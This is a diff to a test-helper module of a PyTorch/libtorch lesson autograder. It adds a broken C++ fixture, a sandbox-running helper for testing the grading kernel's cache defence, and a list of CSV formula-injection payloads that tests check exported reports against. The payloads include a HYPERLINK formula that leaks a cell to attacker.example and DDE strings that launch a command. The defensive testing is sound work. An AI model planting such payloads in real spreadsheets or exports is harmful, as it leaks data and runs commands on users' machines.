@@ -1,12 +1,20 @@
 """What more than one test file uses: the lessons' test cells as callables, the catalogued
 mistakes, and each exercise written right, as a stub, with a catalogued mistake, or built wrongly
-(a module whose ``__init__`` changes one thing the reference builds)."""
+(a module whose ``__init__`` changes one thing the reference builds); lesson 12's C++ in a
+stand-in for the grading kernel; the CSV cells a spreadsheet would run."""
 
+import csv
 import functools
 import importlib
+import os
 import pkgutil
+import re
+import subprocess
+import sys
 from collections.abc import Callable
+from pathlib import Path
 
+import nbformat
 import torch
 from torch import nn
 
@@ -14,6 +22,10 @@ import autograder.checks
 import solutions
 from autograder import grading
 from autograder.checks import Mistake
+from autograder.engine import cpp_cache, csv_files
+from autograder.engine.kernels import sandbox
+from autograder.engine.kernels.environment import kernel_environment
+from autograder.engine.kernels.sandbox import Limits, SandboxSpec
 from autograder.lessons import EXERCISES, written_lessons
 from autograder.libtorch import CppSource
 from solutions import libtorch as cpp_reference
@@ -200,3 +212,70 @@ def built_wrongly(exercise: str, change: Callable[[nn.Module], None]) -> type:
         change(self)
 
     return type(f"Wrong{exercise}", (reference,), {"__init__": build})
+
+
+# Lesson 12's C++: a unit that does not compile, and a grading kernel stood for by a process in
+# the grading kernels' sandbox (tests/test_cpp_cache.py, test_hostile_cpp.py).
+CPP_LESSON, CPP_CELL_LIMIT_S = "12_libtorch", 600  # a cell's time, generous beside a loaded suite
+BROKEN_CPP = """
+struct EmbeddingImpl : torch::nn::Module {
+  EmbeddingImpl(int64_t vocab_size, int64_t d_model) {
+    lut = register_module("lut", torch::nn::Embedding(vocab_size, d_model));
+  }
+  torch::Tensor forward(torch::Tensor tokens) {
+    return lut(tokens) * undeclared_scale;
+  }
+  torch::nn::Embedding lut{nullptr};
+};
+"""
+
+
+def cpp_submission(folder: Path, *cells: str) -> Path:
+    """A submission folder holding one notebook with ``cells`` as code cells."""
+    folder.mkdir(parents=True)
+    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(cell) for cell in cells])
+    nbformat.write(nb, folder / "libtorch.ipynb")
+    return folder
+
+
+def in_kernel_sandbox(workspace: Path, code: str, defended: bool = True) -> subprocess.CompletedProcess:
+    """Run Python ``code`` as a grading kernel runs: the workspace hidden, its shared cache bound
+    back read-only (``defended``) or writable (as it would be without the defence)."""
+    cache = cpp_cache.shared_cache(workspace)
+    folders = sandbox.shared_folders(str(cache))
+    spec = SandboxSpec(
+        Limits(),
+        hidden=(workspace.resolve(),),
+        readable=tuple(sandbox.needed()),
+        private=tuple(sandbox.private_roots()),
+        shared=folders if defended else (),
+        writable=() if defended else folders,
+    )
+    if not defended:
+        sandbox.give_to_sandbox(cache)  # as a kernel's own folder is
+    environment = kernel_environment(os.environ, str(cache))
+    return subprocess.run(
+        spec.command([sys.executable, "-c", code]), env=environment, capture_output=True, text=True, cwd="/"
+    )
+
+
+# CSV cells a spreadsheet would run (tests/test_hostile_reports.py, test_hostile_insights.py).
+FORMULAS = [
+    '=HYPERLINK("https://attacker.example/?"&A3,"Ada")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?(e[-+][0-9]+)?")
+
+
+def formulas(path: Path) -> list[str]:
+    """The cells of a CSV file that a spreadsheet would run: they start as a formula and are not
+    a number."""
+    with path.open(newline="", encoding="utf-8") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    return [
+        cell for cell in cells if cell.startswith(csv_files.FORMULA_STARTS) and not NUMBER.fullmatch(cell)
+    ]
